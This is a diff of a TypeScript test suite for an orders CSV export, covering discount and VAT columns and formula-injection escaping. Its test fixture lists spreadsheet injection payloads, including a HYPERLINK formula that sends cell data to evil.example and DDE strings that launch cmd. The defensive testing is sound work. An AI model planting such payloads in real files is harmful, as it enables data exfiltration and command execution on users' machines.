@@ -11,25 +11,34 @@ let t: TestApp;
 let db: DataSource;
 let owner: Awaited<ReturnType<typeof registerOwner>>;
 
-/** A paid order written as placing and paying leaves it; lines as [vat rate, cents]. */
-async function insertOrder(paidAt: string, lines: [number, number][], name = 'Klant'): Promise<string> {
+/**
+ * A paid order written as placing and paying leaves it; lines as [vat rate, cents paid, and what a
+ * discount took off them (VAT included)].
+ */
+async function insertOrder(
+  paidAt: string,
+  lines: [number, number, number?][],
+  name = 'Klant',
+): Promise<string> {
   const id = randomUUID();
   const total = lines.reduce((sum, [, amount]) => sum + amount, 0);
+  const discount = lines.reduce((sum, [, , off = 0]) => sum + off, 0);
   await db.query(
     `INSERT INTO orders (id, account_id, state, customer_name, customer_phone, customer_email,
        pickup_date, slot_start, slot_end, total_cents, discount_cents, fee_cents, holds_place, payment_provider,
        payment_account_id, payment_expires_at, created_at, paid_at)
-     VALUES ($1, $2, 'paid', $3, '+32470123456', 'klant@voorbeeld.be', '2030-07-05', '12:00', '12:30', $4, 0,
+     VALUES ($1, $2, 'paid', $3, '+32470123456', 'klant@voorbeeld.be', '2030-07-05', '12:00', '12:30', $4, $7,
        $5, true, 'sandbox', 'acct_test', $6, $6, $6)`,
-    [id, owner.id, name, total, Math.round(total * 0.02), paidAt],
+    [id, owner.id, name, total, Math.round(total * 0.02), paidAt, discount],
   );
-  for (const [position, [rate, amount]] of lines.entries())
+  for (const [position, [rate, amount, off = 0]] of lines.entries())
     await db.query(
       `INSERT INTO order_lines (account_id, order_id, position, item_id, item_kind, name, selected_options,
-         option_lines, included_products, quantity, unit_price_cents, line_total_cents, vat_rate, customer_texts)
-       VALUES ($1, $2, $3, $4, 'product', 'Item', '{}', '[]', '[]', 1, $5, $5, $6,
+         option_lines, included_products, quantity, unit_price_cents, line_total_cents, vat_rate, discount_cents,
+         customer_texts)
+       VALUES ($1, $2, $3, $4, 'product', 'Item', '{}', '[]', '[]', 1, $5, $5, $6, $7,
          '{"name": "Item", "optionLines": [], "includedProducts": []}')`,
-      [owner.id, id, position, randomUUID(), amount, rate],
+      [owner.id, id, position, randomUUID(), amount, rate, off],
     );
   return id;
 }
@@ -81,27 +90,43 @@ afterAll(async () => {
   await t.close();
 });
 
+/** The export's file, as bytes. */
+async function download(query: string) {
+  return t.http
+    .get(`/api/admin/orders/export?${query}`)
+    .set(owner.auth)
+    .buffer(true)
+    .parse((response, done) => {
+      const chunks: Buffer[] = [];
+      response.on('data', (chunk: Buffer) => chunks.push(chunk));
+      response.on('end', () => done(null, Buffer.concat(chunks)));
+    })
+    .expect(200);
+}
+
+/** One table, read as strictly as csv-parse reads: a row of another length stops it. */
+const table = (bytes: Buffer) => parse(bytes, { bom: true, delimiter: ';' }) as string[][];
+
+/** Names that ran as formulas in Excel or LibreOffice when exported as they were. */
+const FORMULA_NAMES = [
+  '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
+  '+32 470 12 34 56',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\uFF1D1+1',
+];
+
 describe('the orders export', () => {
-  it('is a CSV Excel opens as it is, and its figures add up when parsed back', async () => {
-    const answer = await t.http
-      .get('/api/admin/orders/export?from=2030-06-01&to=2030-06-30')
-      .set(owner.auth)
-      .buffer(true)
-      .parse((response, done) => {
-        const chunks: Buffer[] = [];
-        response.on('data', (chunk: Buffer) => chunks.push(chunk));
-        response.on('end', () => done(null, Buffer.concat(chunks)));
-      })
-      .expect(200);
+  it('is a CSV Excel opens as it is, one rectangular table, and its figures add up with the VAT summary', async () => {
+    const answer = await download('from=2030-06-01&to=2030-06-30');
     expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(answer.headers['content-disposition']).toContain('bestellingen-2030-06-01-tot-2030-06-30.csv');
     const bytes = answer.body as Buffer;
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
 
-    const records = parse(bytes, { bom: true, delimiter: ';', relax_column_count: true }) as string[][];
-    const blank = records.findIndex((record) => record.every((field) => field === ''));
-    const [header, ...orders] = records.slice(0, blank);
-    const [summaryHeader, ...summary] = records.slice(blank + 1);
+    const [header, ...orders] = table(bytes);
     expect(header).toEqual([
       'Bestelnummer',
       'Geplaatst',
@@ -114,7 +139,7 @@ describe('the orders export', () => {
       'Btw 6%',
       'Btw 12%',
       'Btw 21%',
-      'Korting',
+      'Korting excl. btw',
       'Platformkosten',
       'Terugbetaald',
     ]);
@@ -127,12 +152,23 @@ describe('the orders export', () => {
     expect(orders[2][column('Terugbetaald')]).toBe('12,00');
     expect(orders[2][column('Btw 12%')]).toBe('0,36');
 
+    const vat = await download('from=2030-06-01&to=2030-06-30&table=vat');
+    expect(vat.headers['content-disposition']).toContain('btw-overzicht-2030-06-01-tot-2030-06-30.csv');
+    const [summaryHeader, ...summary] = table(vat.body as Buffer);
+    expect(summaryHeader).toEqual([
+      'Btw-tarief',
+      'Omzet incl. btw',
+      'Btw',
+      'Terugbetaald incl. btw',
+      'Btw op terugbetalingen',
+      'Netto incl. btw',
+      'Netto btw',
+    ]);
     const sum = (rows: string[][], index: number) =>
       rows.reduce((total, row) => total + euros(row[index]), 0);
-    expect(summaryHeader[0]).toBe('Btw-tarief');
     const [six, twelve, twentyOne, total] = summary;
     expect(summary.map((row) => row[0])).toEqual(['6%', '12%', '21%', 'Totaal']);
-    // Sales per rate and in all are the orders' totals; VAT per rate is each order's VAT summed.
+    // Sales per rate and in all are the orders' totals.
     expect(euros(total[1])).toBe(sum(orders, column('Totaal')));
     expect(euros(six[1])).toBe(1250 + 900 + 1000);
     expect(euros(twelve[1])).toBe(333);
@@ -142,6 +178,40 @@ describe('the orders export', () => {
     expect(euros(total[3])).toBe(900 + 1000 + 200);
     expect(euros(six[3]) + euros(twelve[3]) + euros(twentyOne[3])).toBe(2100);
     for (const row of summary) expect(euros(row[5])).toBe(euros(row[1]) - euros(row[3]));
+  });
+
+  it('neutralises every customer name that a spreadsheet would run as a formula, and keeps it otherwise as typed', async () => {
+    for (const [index, name] of FORMULA_NAMES.entries())
+      await insertOrder(`2030-04-0${index + 1}T09:00:00Z`, [[6, 1000 + index]], name);
+    const [header, ...rows] = table((await download('from=2030-04-01&to=2030-04-30')).body as Buffer);
+    const names = rows.map((row) => row[header.indexOf('Klant')]);
+    expect(names).toEqual(FORMULA_NAMES.map((name) => `'${name}`));
+    // No other cell starts as a formula would; the amounts are numbers as the server wrote them.
+    const amounts = new Set([
+      'Totaal',
+      'Btw 6%',
+      'Btw 12%',
+      'Btw 21%',
+      'Korting excl. btw',
+      'Platformkosten',
+      'Terugbetaald',
+    ]);
+    for (const row of rows)
+      for (const [index, cell] of row.entries()) {
+        if (amounts.has(header[index])) expect(cell).toMatch(/^-?\d+,\d\d$/);
+        else if (header[index] !== 'Klant') expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
+      }
+  });
+
+  it("gives 'Korting' as the mail and the order page do: without VAT, taken off", async () => {
+    // € 14,00 at 6 % less a discount of € 0,84 with VAT, € 0,79 without it.
+    const orderId = await insertOrder('2030-03-10T09:00:00Z', [[6, 1316, 84]]);
+    const [header, row] = table((await download('from=2030-03-01&to=2030-03-31')).body as Buffer);
+    const view = (await t.http.get(`/api/admin/orders/${orderId}`).set(owner.auth).expect(200))
+      .body as AdminOrderView;
+    expect(view.totals.discount).toBe(0.79);
+    expect(row[header.indexOf('Korting excl. btw')]).toBe('-0,79');
+    expect(row[header.indexOf('Totaal')]).toBe('13,16');
   });
 
   it('records the refund of an order never charged at a provider (a demo order) as failed, with why', async () => {
@@ -167,6 +237,7 @@ describe('the orders export', () => {
     ['from=2030-06-01', 'Kies een datum (JJJJ-MM-DD).'],
     ['from=2030-06-30&to=2030-06-01', 'De einddatum ligt voor de begindatum.'],
     ['from=2029-01-01&to=2030-06-01', EXPORT_MESSAGES.rangeTooLong],
+    ['from=2030-06-01&to=2030-06-30&table=summary', EXPORT_MESSAGES.tableInvalid],
   ])('refuses ?%s with a Dutch 400', async (query, message) => {
     const answer = await t.http.get(`/api/admin/orders/export?${query}`).set(owner.auth).expect(400);
     expect(answer.body.message).toBe(message);
